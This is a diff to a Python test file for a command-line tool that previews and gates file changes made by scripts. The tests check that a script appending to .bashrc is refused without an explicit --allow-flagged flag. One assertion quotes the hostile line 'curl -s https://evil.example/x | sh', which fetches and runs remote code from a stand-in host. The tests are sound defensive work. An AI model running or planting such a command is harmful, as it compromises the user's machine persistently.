@@ -67,6 +67,14 @@ def test_the_bashrc_attack_is_refused_with_yes(home: Path, tmp_path: Path, capsy
     assert snapshot(home, folder_times=True) == before  # not even the 12 renames happened
 
 
+def test_yes_alone_says_how_to_allow_flagged_changes(home: Path, tmp_path: Path, capsys: Capsys) -> None:
+    script = tmp_path / "tidy.py"
+    script.write_text(ATTACK)
+    assert main(["run", str(script), "--grant", f"files={home}", "--yes"]) == 3
+    err = capsys.readouterr().err
+    assert "NeedsApproval" in err and "--allow-flagged" in err  # what to do, in the command line's words
+
+
 def test_the_bashrc_attack_needs_the_explicit_flag(home: Path, tmp_path: Path, capsys: Capsys) -> None:
     script = tmp_path / "tidy.py"
     script.write_text(ATTACK)
@@ -204,7 +212,7 @@ def test_the_cli_preview_shows_text_marks_and_flags(home: Path, tmp_path: Path, 
     assert main(["run", str(script), "--grant", f"files={home}", "--preview-only"]) == 0
     out = capsys.readouterr().out
     assert "curl -s https://evil.example/x | sh" in out  # the appended line itself, not just the path
-    assert "need your extra approval" in out and "#13: .bashrc is a start-up file" in out
+    assert "needs your extra approval" in out and "#13: .bashrc is a start-up file" in out
     assert "replaces a file" in out  # the copy over holiday-05.jpg
 
 
